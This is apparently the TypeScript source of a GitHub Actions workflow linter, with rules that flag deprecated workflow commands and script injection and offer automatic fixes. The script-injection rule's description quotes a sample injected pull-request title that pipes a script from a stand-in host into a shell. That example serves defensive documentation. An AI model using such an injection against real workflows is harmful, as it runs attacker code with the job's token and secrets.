// `run:` scripts: workflow commands GitHub has deprecated or disabled, and untrusted event fields expanded into the
// script (script injection). Both come with certain fixes.
import type { Fix, RuleFinding, TextEdit } from '../../findings';
import { expressionsIn, scalarSource } from '../../github/scalarSource';
import { untrustedFieldIn } from '../../github/untrustedInputs';
import { workflowModel, type StepModel } from '../../github/workflowModel';
import type { LineIndex } from '../../text/lineIndex';
import { asMap, getEntry, isMap, type Node } from '../../yaml/nodes';
import type { Rule, RuleContext } from '../rule';

interface CommandInfo {
  readonly file: string;
  readonly disabled: boolean;
}

const COMMANDS: Readonly<Record<string, CommandInfo>> = {
  'set-output': { file: 'GITHUB_OUTPUT', disabled: false },
  'save-state': { file: 'GITHUB_STATE', disabled: false },
  'set-env': { file: 'GITHUB_ENV', disabled: true },
  'add-path': { file: 'GITHUB_PATH', disabled: true },
};

const COMMAND = /::(set-output|save-state|set-env|add-path)\b/g;
/** `echo "::set-output name=x::value"` on one line, in the forms people write. */
const ECHO_NAMED = /echo\s+(["']?)::(set-output|save-state|set-env)\s+name=([A-Za-z_][\w-]*)::(.*?)\1\s*$/;
const ECHO_PATH = /echo\s+(["']?)::add-path::(.*?)\1\s*$/;

function runSteps(ctx: RuleContext): StepModel[] {
  return workflowModel(ctx.yaml)?.jobs.flatMap((j) => j.steps.filter((s) => s.run !== undefined)) ?? [];
}

function commandFix(lines: LineIndex, offset: number): Fix | undefined {
  const { line } = lines.positionAt(offset);
  const text = lines.lineText(line);
  const start = lines.offsetAt({ line, character: 0 });
  const named = ECHO_NAMED.exec(text);
  const path = named ? undefined : ECHO_PATH.exec(text);
  const m = named ?? path;
  if (!m) return undefined;
  const replacement = named
    ? `echo "${named[3] ?? ''}=${named[4] ?? ''}" >> "$${COMMANDS[named[2] ?? '']?.file ?? ''}"`
    : `echo "${path?.[2] ?? ''}" >> "$GITHUB_PATH"`;
  return { title: `Write to $${named ? (COMMANDS[named[2] ?? '']?.file ?? '') : 'GITHUB_PATH'} instead`, edits: [{ range: lines.range(start + m.index, start + text.length), newText: replacement }] };
}

export const deprecatedCommand: Rule = {
  id: 'deprecated-command',
  kinds: ['github-workflow'],
  defaultSeverity: 'error',
  docs: {
    title: 'Deprecated or disabled workflow command',
    description: '`::set-env` and `::add-path` are disabled (the step fails); `::set-output` and `::save-state` are deprecated and ' +
      'print warnings. Write `name=value` lines to the files GitHub provides instead: `$GITHUB_OUTPUT`, `$GITHUB_STATE`, ' +
      '`$GITHUB_ENV`, `$GITHUB_PATH`. The quick fix rewrites `echo "::set-output name=x::v"` lines.',
  },
  check(ctx) {
    const findings: RuleFinding[] = [];
    for (const step of runSteps(ctx)) {
      const source = step.run ? scalarSource(ctx.yaml.text, step.run) : undefined;
      if (!source) continue;
      for (const m of source.text.matchAll(COMMAND)) {
        const name = m[1] ?? '';
        const info = COMMANDS[name];
        if (!info) continue;
        const offset = source.start + m.index;
        const fix = commandFix(ctx.yaml.lines, offset);
        findings.push({
          message: info.disabled
            ? `'::${name}' is disabled and fails the step; append to "$${info.file}" instead.`
            : `'::${name}' is deprecated; append "name=value" to "$${info.file}" instead.`,
          range: ctx.yaml.lines.range(offset, offset + m[0].length),
          ...(info.disabled ? {} : { severity: 'warning' as const }),
          ...(fix ? { fixes: [fix] } : {}),
        });
      }
    }
    return findings;
  },
};

/** `github.event.pull_request.title` -> `PULL_REQUEST_TITLE`; `github.head_ref` -> `HEAD_REF`. */
function envNameFor(field: string): string {
  const parts = field.split('.').filter((p) => p !== 'github' && p !== 'event' && p !== '*');
  return parts.slice(-2).join('_').replace(/[^A-Za-z0-9_]/g, '_').toUpperCase();
}

/** Edits that move an expression out of `run` into the step's `env`, referenced as a shell variable. */
function moveToEnvFix(ctx: RuleContext, step: StepModel, expr: { start: number; end: number; inner: string }, field: string): Fix | undefined {
  const { lines, text } = ctx.yaml;
  const name = envNameFor(field);
  const lineStart = lines.offsetAt({ line: lines.positionAt(expr.start).line, character: 0 });
  const before = text.slice(lineStart, expr.start);
  if (((before.match(/'/g) ?? []).length % 2) === 1) return undefined; // inside single quotes: $VAR would not expand
  const inDoubleQuotes = ((before.match(/(?<!\\)"/g) ?? []).length % 2) === 1;
  const edits: TextEdit[] = [{ range: lines.range(expr.start, expr.end), newText: inDoubleQuotes ? `$${name}` : `"$${name}"` }];
  const envEntry = `${name}: \${{ ${expr.inner} }}`;
  const env = getEntry(step.node, 'env');
  if (env) {
    const map = asMap(env.value);
    const first = map?.items[0]?.key as Node | undefined;
    if (!map || !isMap(map) || map.flow === true || !first?.range || !map.range) return undefined;
    const indent = lines.positionAt(first.range[0]).character;
    const end = lastContentOffset(text, map.range[1]);
    edits.push({ range: lines.range(end, end), newText: `\n${' '.repeat(indent)}${envEntry}` });
  } else {
    const runKey = getEntry(step.node, 'run')?.keyNode;
    if (!runKey?.range || !step.run?.range) return undefined;
    const indent = lines.positionAt(runKey.range[0]).character;
    const end = lastContentOffset(text, step.run.range[1]);
    edits.push({ range: lines.range(end, end), newText: `\n${' '.repeat(indent)}env:\n${' '.repeat(indent + 2)}${envEntry}` });
  }
  return { title: `Pass ${field} through env as $${name}`, edits };
}

function lastContentOffset(text: string, end: number): number {
  let i = end;
  while (i > 0 && /\s/.test(text[i - 1] ?? '')) i--;
  return i;
}

export const scriptInjection: Rule = {
  id: 'script-injection',
  kinds: ['github-workflow'],
  defaultSeverity: 'error',
  docs: {
    title: 'Untrusted input expanded into a script',
    description: '`${{ }}` is replaced in the script text before the shell runs it, so a pull request title like ' +
      '`"; curl evil.sh | sh #` becomes a command running with this job\'s token and secrets. Pass untrusted values ' +
      '(titles, bodies, branch names, commit messages, author names) through `env:` and use them as quoted shell variables. ' +
      'The quick fix does exactly that.',
  },
  check(ctx) {
    const findings: RuleFinding[] = [];
    for (const step of runSteps(ctx)) {
      const source = step.run ? scalarSource(ctx.yaml.text, step.run) : undefined;
      if (!source) continue;
      for (const expr of expressionsIn(source)) {
        const field = untrustedFieldIn(expr.inner);
        if (!field) continue;
        const fix = moveToEnvFix(ctx, step, expr, field);
        findings.push({
          message: `'${field}' is controlled by whoever opens the issue or pull request; expanding it into 'run' lets them inject commands. Pass it through 'env:' and use "$${envNameFor(field)}".`,
          range: ctx.yaml.lines.range(expr.start, expr.end),
          ...(fix ? { fixes: [fix] } : {}),
        });
      }
    }
    return findings;
  },
};
